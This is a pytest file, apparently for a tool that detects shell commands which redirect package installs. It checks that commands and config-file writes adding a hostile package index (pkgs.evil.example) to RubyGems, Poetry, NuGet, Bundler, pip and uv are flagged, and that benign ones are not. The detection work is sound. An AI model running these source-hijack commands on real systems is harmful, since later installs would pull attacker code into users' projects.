"""pkgsrc50: more managers' own commands that add a package source (RubyGems' `gem sources --add`, Poetry's `source
add`, NuGet's `add source`, Bundler's mirrors), pip's and uv's extra indexes (searched with the default one: a higher
version there wins) and the configuration files those commands write (`.gemrc`, `nuget.config`), read as
package_sources.json says."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import ops

EVIL = "https://pkgs.evil.example/simple/"


def _redirects(command: str, proj: Path) -> list[str]:
    return [str(e["code"]["text"]) for e in ops(command, proj, "exec") if e.get("deferred") and e.get("startup")]


@pytest.mark.parametrize(
    "command",
    [
        f"gem sources --add {EVIL} --remove https://rubygems.org/",
        f"gem sources -a {EVIL}",
        f"poetry source add --priority=primary evil {EVIL}",
        f"poetry source add evil {EVIL}",
        f"poetry source add --priority primary evil {EVIL}",
        f"dotnet nuget add source {EVIL} -n corp",
        f"dotnet nuget add source --name corp {EVIL}",
        f"nuget sources add -Name corp -Source {EVIL}",
        f"bundle config mirror.https://rubygems.org {EVIL}",
        f"bundle config set --global mirror.all {EVIL}",
        f"pip config set global.extra-index-url {EVIL}",
        f"printf '[global]\\nextra-index-url = {EVIL}\\n' > ~/.config/pip/pip.conf",
        f"printf ':sources:\\n- {EVIL}\\n' > ~/.gemrc",
        f'printf \'<configuration><packageSources><add key="c" value="{EVIL}" /></packageSources></configuration>\''
        " > nuget.config",
        f"printf 'extra-index-url = [\"{EVIL}\"]\\n' > uv.toml",
        f"printf '[tool.uv]\\nextra-index-url = [\"{EVIL}\"]\\n' >> pyproject.toml",
    ],
)
def test_a_strangers_source_added_by_the_managers_own_command_or_file_is_a_later_exec(command: str, proj: Path) -> None:
    assert _redirects(command, proj) == [EVIL]


@pytest.mark.parametrize(
    "command",
    [
        "gem sources --list",
        "gem sources --add https://rubygems.org/",
        f"poetry source add --priority=explicit evil {EVIL}",
        f"poetry source add --priority supplemental evil {EVIL}",
        "poetry source show",
        "dotnet nuget add source https://api.nuget.org/v3/index.json -n nuget.org",
        "dotnet nuget list source",
        "bundle config set --local path vendor/bundle",
        "pip config set global.extra-index-url https://pypi.org/simple",
        'printf \'<configuration><config><add key="http_proxy" value="http://proxy.example:3128" /></config>'
        "</configuration>' > nuget.config",
    ],
)
def test_the_public_registry_an_explicit_source_and_other_keys_redirect_nothing(command: str, proj: Path) -> None:
    assert not _redirects(command, proj)
